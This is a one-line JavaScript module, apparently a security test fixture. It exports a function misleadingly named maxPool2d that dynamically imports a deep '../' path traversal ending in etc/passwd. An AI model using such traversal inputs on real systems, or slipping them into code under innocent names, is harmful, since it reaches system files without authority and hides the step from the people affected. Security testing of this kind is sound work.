export const maxPool2d = async () => import(`${"../".repeat(20000)}etc/passwd`);
